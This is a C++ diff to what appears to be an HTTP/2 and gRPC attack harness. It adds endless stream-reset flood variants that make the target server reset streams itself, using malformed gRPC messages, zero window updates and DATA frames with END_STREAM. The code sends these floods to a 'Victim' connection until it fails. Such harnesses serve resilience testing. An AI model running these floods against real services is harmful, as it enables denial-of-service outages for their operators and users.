@@ -172,17 +172,24 @@ void ContinuationFlood(Victim& victim, uint32_t stream) {
   }
 }
 
-void Resets(Victim& victim, const char* path, uint32_t stream) {
+// Calls one after another, each followed by what ends it: a frame of `type` on its stream.
+void Resets(Victim& victim, const char* path, uint32_t stream,
+            FrameType type = FrameType::kResetStream,
+            std::string_view payload = std::string_view("\0\0\0\x08", 4), uint8_t flags = 0) {
   const std::string fields = CallFields(path);
   for (;;) {
     std::string some;
     for (int i = 0; i < 16; ++i, stream += 2) {
-      some += Frame(FrameType::kHeaders, kEndHeaders, stream, fields);
-      some += Frame(FrameType::kResetStream, 0, stream, std::string_view("\0\0\0\x08", 4));
+      some += Frame(FrameType::kHeaders, kEndHeaders | flags, stream, fields);
+      some += Frame(type, 0, stream, payload);
     }
     if (!victim.Send(some)) return;
   }
 }
+
+// A message's first byte says whether it is compressed: 0 or 1.
+constexpr std::string_view kWrongMessage("\x09\0\0\0\0", 5);
+constexpr std::string_view kNothing("\0\0\0\0", 4);
 
 // One call that is answered, if only with a refusal.
 bool Call(Victim& victim, const char* path, std::string_view message) {
@@ -230,11 +237,15 @@ constexpr std::pair<Attack, const char*> kNames[] = {
     {Attack::kCheckedHugeHeader, "checked_huge_header"},
     {Attack::kCheckedContinuation, "checked_continuation"},
     {Attack::kCheckedReset, "checked_reset"},
+    {Attack::kCheckedMadeReset, "checked_made_reset"},
     {Attack::kGarbageContinuation, "garbage_continuation"},
     {Attack::kTrustedHugeHeader, "trusted_huge_header"},
     {Attack::kTrustedContinuation, "trusted_continuation"},
     {Attack::kTrustedReset, "trusted_reset"},
     {Attack::kTrustedUnsentReset, "trusted_unsent_reset"},
+    {Attack::kTrustedMadeReset, "trusted_made_reset"},
+    {Attack::kTrustedMadeResetByWindow, "trusted_made_reset_by_window"},
+    {Attack::kTrustedMadeResetByEnd, "trusted_made_reset_by_end"},
 };
 
 void Carry(Attack attack, Victim& victim) {
@@ -268,6 +279,11 @@ void Carry(Attack attack, Victim& victim) {
     case Attack::kCheckedReset:
       if (Call(victim, kHealthPath, "")) Resets(victim, kStreamPath, 3);
       return;
+    case Attack::kCheckedMadeReset:
+      if (Call(victim, kHealthPath, "")) {
+        Resets(victim, kStreamPath, 3, FrameType::kData, kWrongMessage);
+      }
+      return;
     case Attack::kGarbageContinuation:
       if (Call(victim, kWatchPath, "\xff\xff\xff")) ContinuationFlood(victim, 3);
       return;
@@ -282,6 +298,21 @@ void Carry(Attack attack, Victim& victim) {
       return;
     case Attack::kTrustedUnsentReset:
       if (Call(victim, kOwnPath, "")) Resets(victim, kHealthPath, 3);
+      return;
+    case Attack::kTrustedMadeReset:
+      if (Call(victim, kOwnPath, "")) {
+        Resets(victim, kStreamPath, 3, FrameType::kData, kWrongMessage);
+      }
+      return;
+    case Attack::kTrustedMadeResetByWindow:
+      if (Call(victim, kOwnPath, "")) {
+        Resets(victim, kStreamPath, 3, FrameType::kWindowUpdate, kNothing);
+      }
+      return;
+    case Attack::kTrustedMadeResetByEnd:
+      if (Call(victim, kOwnPath, "")) {
+        Resets(victim, kStreamPath, 3, FrameType::kData, "x", kEndStream);
+      }
       return;
   }
 }
